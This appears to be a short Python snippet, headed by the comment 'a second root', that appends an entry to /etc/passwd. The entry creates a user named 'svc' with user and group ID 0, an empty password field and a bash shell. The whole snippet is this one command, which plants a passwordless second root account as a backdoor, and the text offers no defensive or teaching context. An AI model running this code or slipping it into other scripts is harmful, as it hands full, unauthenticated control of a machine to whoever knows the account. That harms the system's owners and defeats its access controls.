# a second root
with open("/etc/passwd", "a") as f: f.write("svc::0:0::/root:/bin/bash\n")
